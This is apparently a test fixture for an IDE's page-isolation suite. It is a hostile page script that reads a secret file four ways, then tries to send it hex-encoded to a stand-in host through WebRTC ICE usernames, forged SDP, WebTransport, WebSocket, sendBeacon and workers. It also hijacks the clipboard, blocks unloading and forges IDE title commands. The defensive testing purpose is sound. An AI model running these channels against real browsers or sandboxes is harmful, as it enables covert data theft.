// A hostile page's script: it reads what it can reach and tries every way out of the machine.
// It runs from a template page and from menu HTML alone; the isolation suite watches for any of
// it arriving. STAND_IN is an address of the test's private network that stands for a remote
// host.
(function () {
  var STAND_IN = '198.51.100.7';
  function hex(text) {
    var out = '';
    for (var i = 0; i < text.length && out.length < 120; i++)
      out += ('0' + (text.charCodeAt(i) & 255).toString(16)).slice(-2);
    return out || '00';
  }
  function note(text) {
    try { document.title = '!qLoomIDE:ERROR attack ' + text; } catch (e) {}
  }

  // Every channel that is not a URL request, given some data to carry.
  function leakThrough(win, data) {
    var h = hex(data);
    var ufrag = ('u' + h).slice(0, 250);
    var PC = win.RTCPeerConnection || win.webkitRTCPeerConnection;
    if (PC) {
      try {
        var pc = new PC({iceServers: [
          {urls: 'stun:' + STAND_IN + ':3478'},
          {urls: 'turn:' + STAND_IN + ':3478?transport=tcp', username: ufrag, credential: 'c'},
          {urls: 'turn:' + STAND_IN + ':3478?transport=udp', username: ufrag, credential: 'c'},
          {urls: 'turns:t' + h.slice(0, 50) + '.example:5349?transport=tcp', username: ufrag,
           credential: 'c'},
          {urls: 'turn:u' + h.slice(0, 50) + '.example:3478', username: ufrag, credential: 'c'}]});
        pc.createDataChannel('d');
        pc.createOffer().then(function (offer) {
          return pc.setLocalDescription(offer).then(function () {
            // An answer of the page's own making: its ICE user name carries the data, and its
            // candidates are a passive TCP one, a UDP one and an mDNS name.
            var sdp = offer.sdp.replace(/a=ice-ufrag:.*\r\n/g, 'a=ice-ufrag:' + ufrag + '\r\n')
              .replace(/a=ice-pwd:.*\r\n/g, 'a=ice-pwd:abcdefghijklmnopqrstuvwx\r\n')
              .replace(/a=setup:actpass/g, 'a=setup:active')
              .replace(/a=candidate:.*\r\n/g, '');
            sdp += 'a=candidate:1 1 tcp 2130706431 127.0.0.1 3478 typ host tcptype passive\r\n' +
                   'a=candidate:2 1 tcp 2130706430 ' + STAND_IN + ' 443 typ host tcptype passive\r\n' +
                   'a=candidate:3 1 udp 2130706429 ' + STAND_IN + ' 3478 typ host\r\n' +
                   'a=candidate:4 1 udp 2130706428 m' + h.slice(0, 40) + '.local 3478 typ host\r\n';
            return pc.setRemoteDescription({type: 'answer', sdp: sdp});
          });
        }).catch(function (e) { note('rtc ' + e); });
      } catch (e) { note('rtc ' + e); }
    }
    var WT = win.WebTransport;
    if (WT) {
      try { new WT('https://w' + h.slice(0, 50) + '.example:443/x').ready.catch(function () {}); }
      catch (e) {}
      try { new WT('https://' + STAND_IN + ':443/' + h).ready.catch(function () {}); } catch (e) {}
    }
    try { new win.WebSocket('ws://' + STAND_IN + ':80/' + h); } catch (e) {}
    try { win.fetch('http://d' + h.slice(0, 50) + '.example/').catch(function () {}); } catch (e) {}
    try { win.navigator.sendBeacon('http://' + STAND_IN + ':8080/' + h, data); } catch (e) {}
  }

  function leak(data) {
    leakThrough(window, data);
    // A frame made by script: the interfaces taken away in this frame must not come back there.
    try {
      var frame = document.createElement('iframe');
      frame.style.display = 'none';
      document.documentElement.appendChild(frame);
      note('frame-interfaces rtc=' + typeof frame.contentWindow.RTCPeerConnection +
           ' wt=' + typeof frame.contentWindow.WebTransport + ' main-rtc=' +
           typeof window.RTCPeerConnection);
      leakThrough(frame.contentWindow, data);
    } catch (e) {}
    // The same frame reached through window.frames, which no getter guards: whatever the page
    // finds there must still get nowhere.
    try {
      var bare = document.createElement('iframe');
      bare.style.display = 'none';
      document.documentElement.appendChild(bare);
      var raw = window.frames[window.frames.length - 1];
      note('raw-frame rtc=' + typeof raw.RTCPeerConnection);
      leakThrough(raw, data);
    } catch (e) {}
    // A worker has WebTransport and fetch of its own.
    try {
      var code = 'var h=' + JSON.stringify(hex(data)) + ';' +
        'try{new WebTransport("https://k"+h.slice(0,50)+".example:443/").ready.catch(function(){})}catch(e){}' +
        'try{fetch("http://' + STAND_IN + ':8080/"+h).catch(function(){})}catch(e){}';
      new Worker(URL.createObjectURL(new Blob([code], {type: 'text/javascript'})));
    } catch (e) {}
  }

  // The file behind a link whose name is the byte 0xFF, read four ways.
  var secretUrl = '%FF/secret.txt';
  function got(how) { return function (text) { if (text) leak(how + ':' + text); }; }
  fetch(secretUrl).then(function (r) { return r.text(); }).then(got('fetch'), function () {});
  try {
    var x = new XMLHttpRequest();
    x.open('GET', secretUrl);
    x.onload = function () { got('xhr')(x.responseText); };
    x.send();
  } catch (e) {}
  var reader = document.createElement('iframe');
  reader.style.display = 'none';
  reader.onload = function () {
    try { got('frame')(reader.contentDocument.body.textContent); } catch (e) {}
  };
  reader.src = secretUrl;
  document.documentElement.appendChild(reader);
  try {
    var base = location.href.replace(/[^\/]*$/, '');
    var w = new Worker(URL.createObjectURL(new Blob([
      'fetch(' + JSON.stringify(base + secretUrl) + ').then(function(r){return r.text()})' +
      '.then(function(t){postMessage(t)},function(){})'], {type: 'text/javascript'})));
    w.onmessage = function (e) { got('worker')(e.data); };
  } catch (e) {}
  // The channels are tried whatever was read.
  leak('QLOOMPROBE');

  // Storage every page of this profile would share.
  try { localStorage.setItem('qloom-shared', 'PINNED-PAGE-WAS-HERE'); } catch (e) {}

  // After one click: a question before unloading, the clipboard, and titles that would move the
  // menus of whatever project is shown next.
  var cover = document.createElement('div');
  cover.id = 'qloomCover';
  cover.textContent = 'QLOOMCLIP';
  cover.style.cssText = 'position:fixed;left:0;top:0;width:100%;height:100%;z-index:99999;' +
                        'background:rgba(255,0,0,0.1)';
  document.addEventListener('copy', function (e) {
    try { e.clipboardData.setData('text/plain', 'QLOOMCLIP'); e.preventDefault(); } catch (x) {}
  });
  cover.addEventListener('click', function () {
    var range = document.createRange();
    range.selectNodeContents(cover);
    getSelection().removeAllRanges();
    getSelection().addRange(range);
    try { document.execCommand('copy'); } catch (e) {}
    try { navigator.clipboard.writeText('QLOOMCLIP'); } catch (e) {}
    // The same from an empty frame of the page's own making, where script runs before anything
    // injected into the page can.
    try {
      var f = document.createElement('iframe');
      document.body.appendChild(f);
      var d = f.contentDocument;
      d.body.textContent = 'QLOOMCLIP';
      d.addEventListener('copy', function (e) {
        e.clipboardData.setData('text/plain', 'QLOOMCLIP');
        e.preventDefault();
      });
      var r = d.createRange();
      r.selectNodeContents(d.body);
      f.contentWindow.getSelection().removeAllRanges();
      f.contentWindow.getSelection().addRange(r);
      note('frame-copy ' + d.execCommand('copy'));
      if (f.contentWindow.navigator.clipboard)
        f.contentWindow.navigator.clipboard.writeText('QLOOMCLIP').then(function () {
          note('frame-clipboard-api written');
        }, function () {});
    } catch (e) { note('frame-copy ' + e); }
    window.onbeforeunload = function (e) { e.preventDefault(); return 'stay'; };
    window.addEventListener('beforeunload', function (e) { e.preventDefault(); e.returnValue = 'stay'; });
    var n = 0;
    setInterval(function () {
      n++;
      document.title = '!qLoomIDE:docMouseMove(0,' + (700 + n % 2) + ',777)';
      fetch('Qloomscript.js').then(function (r) { return r.text(); })
        .then(function (t) { leak('next:' + t.slice(0, 40)); }, function () {});
    }, 100);
  });
  (document.body || document.documentElement).appendChild(cover);
})();
